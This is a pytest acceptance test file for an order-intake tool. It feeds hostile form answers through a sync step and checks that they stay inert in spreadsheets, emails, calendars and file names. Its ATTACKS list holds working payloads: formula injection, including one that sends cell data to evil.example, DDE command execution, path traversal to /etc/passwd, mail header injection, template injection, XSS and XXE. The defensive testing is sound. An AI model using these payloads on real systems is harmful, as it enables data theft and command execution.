"""Texts that mean harm: what a stranger may write into the form, and that nothing comes of it."""

from __future__ import annotations

import csv
import itertools
import zipfile
from email.message import EmailMessage
from pathlib import Path

import openpyxl
import pytest

from tests.acceptance.desk import onsite
from tests.rules.build import CLEAN
from tests.sync.post_office import NOW, PostOffice, furnished, opened, upto

ATTACKS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula by plus": "+cmd|' /C calc'!A0",
    "formula by minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula, full width": "＝1+1",
    "formula after a tab": "\t=1+1",
    "formula after a line break": "x\n=1+1",
    "formula with an apostrophe": "'=1+1",
    "data from the web": '=IMPORTXML("http://evil.example","//a")',
    "path upwards": "../../../../etc/cron.d/evil",
    "path of Windows": "..\\..\\C:\\Windows\\win.ini",
    "path from the root": "/etc/passwd",
    "device": "CON.txt",
    "null": "evil\x00.exe",
    "mail header": "Ken\r\nBcc: everyone@evil.example",
    "mail header, encoded": "=?utf-8?q?Ken=0D=0ABcc:_everyone=40evil.example?=",
    "mail body": "x\r\n.\r\nMAIL FROM:<a@evil.example>",
    "template": "{{ 7*191 }}{% for x in range(9) %}{{ x }}{% endfor %}",
    "template that calls": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "format": "%s%n {0.__class__} $(id) `id` ${HOME}",
    "markup": '<script>alert(1)</script><img src="http://evil.example/x">',
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
    "right to left": "\u202egnp.exe",
    "sheet reference": "'System'!A1",
    "picture escape": "_x003D_1+1",
}
FIELDS = (
    "Client reference", "Billing reference", "Ordered by", "Work description", "Site address", "Site contact", "Floor",
    "Entry instructions", "Items to bring", "Notes", "PM contact",
)  # fmt: skip
HEADERS = {"to", "from", "subject", "date", "message-id", "mime-version", "content-type", "x-unsent"}


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> PostOffice:
    """A register after a run that took in two orders for every attack: one that messages are due for, one invoiced."""
    post = furnished(tmp_path_factory.mktemp("attacked") / "office")
    waived = {"Waived flags": "engineer-double-booked: a test\nduplicate-order: a test"}
    bases = [{**CLEAN, **upto(status), **waived} for status in ("Approved", "Completed")]
    titles = ["Timestamp", *dict.fromkeys([*bases[0], *bases[1], *FIELDS])]
    path = post.folder.parent / "form.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        answers = csv.DictWriter(file, titles)
        answers.writeheader()
        for number, (text, base) in enumerate(itertools.product(ATTACKS.values(), bases)):
            stamp = f"2026/11/19 9:{number // 60:02d}:{number % 60:02d}"
            answers.writerow({"Timestamp": stamp, **base, **dict.fromkeys(FIELDS, text)})
    done = onsite("sync", post.path, "--now", NOW, "--form-csv", path, "--config", post.config)
    assert done.code == 0, done.err or done.out
    return post


@pytest.fixture(scope="module")
def mails(attacked: PostOffice) -> list[EmailMessage]:
    return [opened(path) for path in (attacked.folder / "outbox").rglob("*.eml")]


def workbooks(post: PostOffice) -> list[Path]:
    return [post.path, *(post.folder / "invoices").iterdir()]


def test_each_order_came_in_and_was_invoiced(attacked: PostOffice, mails: list[EmailMessage]) -> None:
    rows = attacked.rows("Orders")
    assert [row["Status"] for row in rows].count("Invoiced") == len(ATTACKS) == len(attacked.files("invoices"))
    assert len(rows) == 2 * len(ATTACKS) <= len(mails)


@pytest.mark.scenario(20)
def test_no_text_is_a_formula(attacked: PostOffice) -> None:
    """Neither for a spreadsheet program that opens the file, nor after a click into the cell and Enter."""
    books = [(path.name, openpyxl.load_workbook(path)) for path in workbooks(attacked)]
    cells = [(name, cell) for name, book in books for sheet in book for line in sheet.iter_rows() for cell in line]
    assert [(name, cell) for name, cell in cells if cell.data_type == "f"] == []
    ours = [(name, cell) for name, cell in cells if cell.parent.title != "Engineers"]  # those the test typed itself
    alive = [(name, cell) for name, cell in ours if str(cell.value)[:1] in ("=", "+", "@")]
    assert len(alive) > 100
    assert [found for found in alive if not found[1].quotePrefix and found[1].number_format != "@"] == []


@pytest.mark.scenario(20, 24)
def test_texts_stay_as_they_were_written(attacked: PostOffice) -> None:
    found = [row["Notes"] for row in attacked.rows("Orders")]
    for text in ATTACKS.values():
        kept = text.replace("\r\n", "\n").replace("\x00", "")
        assert kept in found or kept.replace("_x", "_x005F_x") in found, text


@pytest.mark.scenario(24)
def test_every_file_is_where_it_belongs(attacked: PostOffice) -> None:
    root = attacked.folder.parent
    below = {path.relative_to(attacked.folder).parts[0] for path in attacked.folder.rglob("*")}
    assert below <= {
        "orders.xlsx", "onsite.toml", "invoices", "outbox", "work-orders", ".onsite-backups", ".onsite-outbox",
        ".onsite-templates", ".orders.xlsx.onsite-lock", "invoice-index.csv",
    }  # fmt: skip
    assert {path.name for path in root.iterdir()} == {"office", "form.csv"}
    for path in attacked.folder.rglob("*"):
        assert not set('\\/:*?"<>|\x00\r\n\u202e') & set(path.name), path
        assert path.name.split(".")[0].upper() not in ("CON", "PRN", "AUX", "NUL") and len(path.name.encode()) <= 255


@pytest.mark.scenario(24)
def test_no_mail_has_a_header_of_a_strangers(mails: list[EmailMessage]) -> None:
    for mail in mails:
        assert {name.lower() for name in mail} <= HEADERS, dict(mail)
        assert len(mail["To"].addresses) == 1 and "evil" not in mail["To"].addresses[0].addr_spec
        assert "\n" not in mail["Subject"] and "\r" not in mail["Subject"]


@pytest.mark.scenario(24)
def test_templates_are_literal(mails: list[EmailMessage]) -> None:
    parts = (part for mail in mails for part in mail.walk())
    whole = "\n".join(str(part.get_content()) for part in parts if part.get_content_maintype() == "text")
    assert "7*191" in whole and str(7 * 191) not in whole and "subclasses" in whole
    assert "<class" not in whole and "root:" not in whole


def test_markup_is_text(mails: list[EmailMessage]) -> None:
    parts = [part for mail in mails for part in mail.walk() if part.get_content_type() == "text/html"]
    assert any("alert(1)" in part.get_content() for part in parts)
    assert [part for part in parts if "<script" in part.get_content() or "<img" in part.get_content()] == []


def test_a_calendar_has_one_entry(mails: list[EmailMessage]) -> None:
    entries = [part for mail in mails for part in mail.walk() if part.get_content_type() == "text/calendar"]
    assert entries
    for entry in entries:
        lines = str(entry.get_content()).splitlines()
        assert [line.split(":")[0] for line in lines].count("BEGIN") == lines.count("BEGIN:VEVENT") + lines.count(
            "BEGIN:VCALENDAR"
        ) + lines.count("BEGIN:VTIMEZONE") + lines.count("BEGIN:STANDARD") + lines.count("BEGIN:DAYLIGHT")
        assert lines.count("BEGIN:VEVENT") == 1


def test_no_part_of_a_workbook_leads_outside(attacked: PostOffice) -> None:
    for path in workbooks(attacked):
        with zipfile.ZipFile(path) as book:
            for name in book.namelist():
                text = book.read(name)
                assert b"<!DOCTYPE" not in text and b"<!ENTITY" not in text
                if name.endswith(".rels"):
                    assert b"evil.example" not in text and b"etc/" not in text


@pytest.mark.scenario(18)
def test_no_text_is_taken_for_damage_of_the_ledger(attacked: PostOffice) -> None:
    """What no cell holds was left out when the ledger was written: the next invoice is issued all the same."""
    done = onsite("doctor", attacked.path, "--now", NOW, "--config", attacked.config, "--json")
    grades = {finding["what"]: finding["grade"] for finding in done.object["findings"]}
    assert grades["ledger"] == "ok"
